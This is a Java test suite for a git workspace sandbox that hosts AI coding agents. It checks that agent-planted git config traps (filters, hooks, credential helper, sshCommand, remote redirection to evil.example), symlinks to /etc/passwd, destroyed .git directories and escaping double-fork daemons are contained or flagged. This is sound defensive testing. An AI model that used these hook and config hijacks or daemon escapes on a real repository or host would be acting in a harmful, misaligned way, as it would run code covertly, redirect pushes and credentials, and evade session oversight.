package io.operationscenter.execution.workspaces;

import static io.operationscenter.kit.testing.SpokenAssumption.assumeAloud;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.operationscenter.contracts.common.ChangedFileRef;
import io.operationscenter.kit.git.ObjectId;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Agents may do in their workspace whatever they like; here they do. */
@Timeout(120)
class HostileAgentTest {

  @TempDir Path directory;
  private WorkspaceFixture fixture;
  private GitWorkspaces workspaces;
  private Path canary;

  @BeforeEach
  void open() throws Exception {
    fixture = new WorkspaceFixture(directory);
    workspaces = fixture.workspaces();
    Path outside = Files.createDirectory(directory.resolve("outside"));
    Files.setPosixFilePermissions(outside, PosixFilePermissions.fromString("rwxrwxrwx"));
    canary = outside.resolve("canary");
  }

  @AfterEach
  void close() {
    fixture.close();
  }

  @Test
  void ourGitRunsNothingThatAnAgentSetUpAndTheNextRunSeesNothingOfIt() throws Exception {
    // Given
    Workspace workspace = workspaces.prepare(fixture.order("r-1"));
    fixture.agent(workspace, traps());
    fixture.agent(
        workspace, "set +e; git diff README.md; git add README.md; git commit -qm x; true");
    assertThat(canary)
        .as("the traps do catch a git that trusts them")
        .content()
        .contains("filter", "hook");
    Files.delete(canary);

    // When
    ObjectId tree = workspaces.record(workspace);
    TreeDiff diff = workspaces.diff(workspace, tree);
    ScopeFinding finding = workspaces.check(workspace, diff);
    ObjectId commit = workspaces.commit(workspace, tree, "Add", WorkspaceFixture.AT);
    Pushed pushed = workspaces.push(workspace, commit);
    workspaces.restore(workspace, tree);
    Workspace next =
        workspaces.prepare(fixture.order("r-2", r -> r.put("task_branch", "auto/2"), _ -> {}));

    // Then
    assertThat(canary).doesNotExist();
    assertThat(finding).isEqualTo(new ScopeFinding.Clean());
    assertThat(pushed).isEqualTo(new Pushed.Done());
    assertThat(diff.files())
        .extracting(ChangedFileRef::path)
        .containsExactly(".gitattributes", "README.md");
    assertThat(
            fixture.agent(next, "git config --list --local; ls .git; cat README.md; git fsck 2>&1"))
        .doesNotContain("filter", "sshcommand", "insteadof", "hooks", "trap", "error")
        .contains("hello");
    assertThat(canary).doesNotExist();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "rm -rf .git",
        "rm -rf .git; ln -s /etc .git",
        "rm -rf .git; echo 'gitdir: /etc' > .git",
        "rm -rf .git; mkfifo .git",
        "echo garbage > .git/HEAD; rm -rf .git/objects; ln -s / .git/objects",
        "printf 'gitdir: /nonexistent' > .git/commondir",
        "rm -f .git/index; mkfifo .git/index .git/index.lock"
      })
  void theFilesCountWhateverBecomesOfTheAgentsRepository(String script) throws Exception {
    // Given
    Workspace workspace = workspaces.prepare(fixture.order("r-1"));

    // When
    fixture.agent(workspace, "echo a > a.txt; " + script);
    ObjectId tree = workspaces.record(workspace);

    // Then
    assertThat(fixture.inOurs("r-1", "git ls-tree -r --name-only " + tree))
        .isEqualTo("README.md\na.txt\n");
    workspaces.restore(workspace, tree);
    workspaces.discard("r-1");
    assertThat(workspace.files()).doesNotExist();
  }

  @Test
  void findsWhatLiesOutsideOfTheAllowedPathsAndBothNamesOfARename() throws Exception {
    // Given
    fixture.commit("docs/guide.md", "a long enough text to be recognised\n".repeat(5));
    Workspace workspace =
        workspaces.prepare(
            fixture.order(
                "r-1", r -> r.putArray("allowed_paths").add("src/").add("*.txt"), _ -> {}));

    // When
    fixture.agent(
        workspace,
        "mkdir src .github; mv docs/guide.md src/guide.md; echo x > .github/x; echo ok > a.txt;"
            + " printf y > $'src/new\\nline.md'; echo z > src/größe.md");
    TreeDiff diff = workspaces.diff(workspace, workspaces.record(workspace));

    // Then
    assertThat(diff.files())
        .extracting(ChangedFileRef::path)
        .containsExactly(".github/x", "a.txt", "src/größe.md", "src/guide.md", "src/new\nline.md");
    assertThat(workspaces.check(workspace, diff))
        .isInstanceOfSatisfying(
            ScopeFinding.Violation.class,
            v -> {
              assertThat(v.files()).containsExactly(".github/x", "docs/guide.md");
              assertThat(v.reason())
                  .isEqualTo(
                      "changed outside of the allowed paths [src/, *.txt]: .github/x, docs/guide.md");
            });
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "ln -s /etc/passwd out",
        "ln -s ../../elsewhere out",
        "mkdir -p p/q; ln -s ../.. p/q/d; ln -s p/q/d/.. out",
        "mkdir a; ln -s ../README.md a/ok; ln -s a/ok/../../.. out"
      })
  void findsLinksThatLeaveTheWorkspace(String script) throws Exception {
    // Given
    Workspace workspace = workspaces.prepare(fixture.order("r-1"));

    // When
    fixture.agent(workspace, script + "; ln -s README.md fine");
    TreeDiff diff = workspaces.diff(workspace, workspaces.record(workspace));

    // Then
    assertThat(workspaces.check(workspace, diff))
        .isInstanceOfSatisfying(
            ScopeFinding.Violation.class,
            v -> {
              assertThat(v.files()).containsExactly("out");
              assertThat(v.reason()).isEqualTo("out is a link that leaves the workspace");
            });
  }

  @Test
  void namesWhatCannotBeCommittedAndNeverHangs() throws Exception {
    // Given
    fixture.commit(".gitignore", "ignored/\n");
    Workspace workspace = workspaces.prepare(fixture.order("r-1"));

    // When
    fixture.agent(
        workspace,
        """
        echo a > a.txt
        mkdir closed ignored; echo c > closed/c; chmod 000 closed closed/c 2>/dev/null || true
        mkfifo pipe closed2 || true; rm README.md; mkfifo README.md
        mkdir sub; mkfifo sub/.gitignore sub/.gitattributes
        python3 -c "import socket; socket.socket(socket.AF_UNIX).bind('socket')"
        git init -q nested; echo n > nested/n
        git init -q ignored/nested
        truncate -s 150M large.bin; truncate -s 150M ignored/large.bin
        echo w > 'git~1'
        echo b > 'back\\slash'
        printf x > $'bad\\xff'
        """);
    ObjectId tree = workspaces.record(workspace);
    TreeDiff diff = workspaces.diff(workspace, tree);

    // Then
    assertThat(diff.changes()).extracting(c -> c.path()).contains("README.md", "a.txt", "closed/c");
    assertThat(workspaces.check(workspace, diff))
        .isInstanceOfSatisfying(
            ScopeFinding.Violation.class,
            v ->
                assertThat(v.reason())
                    .contains(
                        "nested is a repository of its own",
                        "large.bin is larger than 100 MB",
                        "back\\slash has a backslash in its name",
                        "bad\uFFFD has a name that is not valid UTF-8",
                        "git~1")
                    .doesNotContain("ignored"));
    assertThat(fixture.inOurs("r-1", "git ls-tree -r --name-only " + tree))
        .doesNotContain("large.bin", "nested", "pipe", "socket", "git~1");
    workspaces.discard("r-1");
    assertThat(workspace.files()).doesNotExist();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          n = 'd'; count = 1500 | lies deeper than 500 folders
          n = 'd' * 200; count = 60 | has a path too long for the system
          """)
  void refusesATreeThatTheSystemCannotTake(String shape, String reason) throws Exception {
    // Given
    Workspace workspace = workspaces.prepare(fixture.order("r-1"));
    ObjectId tree = workspaces.record(workspace);

    // When
    fixture.agent(
        workspace,
        "python3 -c \"import os; "
            + shape
            + "; [(os.mkdir(n), os.chdir(n)) for _ in range(count)]; open('f', 'w').close()\"");

    // Then
    for (ThrowingCallable step :
        List.<ThrowingCallable>of(
            () -> workspaces.record(workspace),
            () -> workspaces.altered(workspace, tree),
            () -> workspaces.restore(workspace, tree))) {
      assertThatThrownBy(step)
          .isInstanceOfSatisfying(
              UnfitTree.class, e -> assertThat(e.path()).startsWith("d").hasSizeLessThan(201))
          .hasMessageEndingWith("d " + reason);
    }
    workspaces.discard("r-1");
    assertThat(workspace.files()).doesNotExist();
  }

  @Test
  void commitsNothingUnderInternalPaths() throws Exception {
    // Given
    fixture.commit("kodo/kept.txt", "kept\n");
    Workspace workspace =
        workspaces.prepare(
            fixture.order("r-1", r -> r.put("goal_file_path", "tasks/goal.md"), _ -> {}));

    // When
    fixture.agent(
        workspace,
        "echo evil > kodo/kept.txt; echo evil > kodo/new.txt; mkdir -p .kodo .aider.x tasks .operations_center;"
            + " touch .kodo/a .aider.x/b .aiderrc tasks/goal.md .operations_center/c .kodo_goal.md"
            + " scope-too-wide.json; git add -Af; git commit -qm all");
    ObjectId tree = workspaces.record(workspace);

    // Then
    TreeDiff diff = workspaces.diff(workspace, tree);
    assertThat(diff.changes()).isEmpty();
    assertThat(diff.patch()).isEmpty();
    assertThat(workspaces.check(workspace, diff)).isEqualTo(new ScopeFinding.Clean());
    assertThat(fixture.inOurs("r-1", "git rev-parse " + workspace.start() + "^{tree}").strip())
        .isEqualTo(tree.hex());
    assertThat(workspaces.commit(workspace, tree, "Nothing", WorkspaceFixture.AT))
        .isEqualTo(workspace.start());
  }

  @Test
  void tooManyFilesOrLinesAreTooWide() throws Exception {
    // Given
    Workspace workspace = workspaces.prepare(fixture.order("r-1"));

    // When
    fixture.agent(workspace, "for i in $(seq -w 60); do echo $i > f$i; done");
    ScopeFinding files =
        workspaces.check(workspace, workspaces.diff(workspace, workspaces.record(workspace)));
    fixture.agent(workspace, "rm f*; seq 2001 > long.txt");
    ScopeFinding lines =
        workspaces.check(workspace, workspaces.diff(workspace, workspaces.record(workspace)));

    // Then
    assertThat(files)
        .isInstanceOfSatisfying(
            ScopeFinding.TooWide.class,
            wide -> {
              assertThat(wide.files()).hasSize(60);
              assertThat(wide.reason())
                  .startsWith("60 files (at most 50) and 60 lines (at most 2000) are changed")
                  .endsWith("f15 (+45 more)");
            });
    assertThat(lines)
        .isInstanceOfSatisfying(
            ScopeFinding.TooWide.class, wide -> assertThat(wide.lines()).isEqualTo(2_001));
  }

  @Test
  void nothingOfADaemonWithoutEnvironmentOutlivesItsCommand() throws Exception {
    assumeAloud(fixture.user.differs(), "not uid 0: such a daemon is only known by its folder");
    // Given
    Workspace workspace = workspaces.prepare(fixture.order("r-1"));

    // When
    fixture.agent(
        workspace,
        """
        cat > daemon.py <<'P'
        import os
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.chdir('/')
                for fd in range(3): os.close(fd)
                os.execve('/bin/sleep', ['daemon-of-the-test', '987'], {})
            os._exit(0)
        os.wait()
        P
        env -i /usr/bin/python3 daemon.py
        """);

    // Then
    assertThat(
            fixture
                .shell("ps -eo uid= | grep -cw " + fixture.user.identity().uid() + " || true")
                .strip())
        .isEqualTo("0");
  }

  @Test
  void aFolderTooDeepForAnyPathIsRemovedAllTheSame() throws Exception {
    // Given
    Workspace workspace = workspaces.prepare(fixture.order("r-1"));
    fixture.agent(
        workspace,
        """
        python3 - <<'P'
        import os
        for i in range(60):
            os.mkdir('d' * 200); os.chdir('d' * 200)
        open('f', 'w').close()
        P
        """);

    // When // Then
    assertThatCode(() -> workspaces.discard("r-1")).doesNotThrowAnyException();
    assertThat(workspace.files()).doesNotExist();
  }

  @Test
  void aNulInWhatGitTakesForTextIsSearchedAndShownAsAMark() throws Exception {
    // Given: git looks only at the beginning of a file
    Workspace workspace = workspaces.prepare(fixture.order("r-1"));

    // When
    fixture.agent(
        workspace, "{ yes 'a line of text' | head -n 1000; printf 'x\\0y\\n'; } > late.txt");
    TreeDiff diff = workspaces.diff(workspace, workspaces.record(workspace));

    // Then
    assertThat(diff.patch()).contains("+x\uFFFDy\n").doesNotContain("\0");
    assertThat(diff.searched()).contains("+x\0y\n");
  }

  @Test
  void anAgentsEncodingThatCannotBeReadIsAFaultThatSaysSo() throws Exception {
    // Given
    Workspace workspace = workspaces.prepare(fixture.order("r-1"));

    // When
    fixture.agent(
        workspace, "echo '* working-tree-encoding=UTF-16LE-BOM' > .gitattributes; echo a > a.txt");

    // Then
    ScopeFinding finding;
    try {
      finding =
          workspaces.check(workspace, workspaces.diff(workspace, workspaces.record(workspace)));
    } catch (WorkspaceFault fault) {
      assertThat(fault).hasMessageContaining("cannot be recorded").hasMessageContaining("UTF-16");
      return;
    }
    assertThat(finding).isInstanceOf(ScopeFinding.Violation.class);
  }

  private String traps() throws IOException {
    Path trap =
        Files.writeString(
            directory.resolve("outside/trap.sh"), "echo \"$1\" >> " + canary + "\nexit 1\n");
    Files.setPosixFilePermissions(trap, PosixFilePermissions.fromString("rwxr-xr-x"));
    return """
        t='sh %1$s '
        for f in clean smudge process; do git config filter.x.$f "$t filter"; done
        git config diff.x.command "$t diff"; git config diff.x.textconv "$t textconv"
        git config merge.x.driver "$t merge"
        git config core.sshCommand "$t sshCommand"; git config core.fsmonitor "$t fsmonitor"
        git config core.hooksPath .git/hooks; git config core.pager "$t pager"
        git config core.attributesFile .gitattributes; git config core.editor "$t editor"
        git config credential.helper "!$t credential"
        git config url.ssh://evil.example/.insteadOf %2$s/
        git config url.ssh://evil.example/.pushInsteadOf %2$s/
        git config remote.origin.url ssh://evil.example/a.git
        git config include.path /tmp/none; git config gpg.program "$t gpg"
        git config commit.gpgSign true
        mkdir -p .git/hooks
        for h in pre-commit post-index-change pre-push post-checkout reference-transaction; do
          printf '#!/bin/sh\\necho hook >> %3$s\\n' > .git/hooks/$h; chmod +x .git/hooks/$h
        done
        echo '* filter=x diff=x merge=x' > .gitattributes
        cp .gitattributes .git/info/attributes
        echo changed >> README.md
        git config commit.gpgSign false
        """
        .formatted(trap, directory, canary);
  }
}
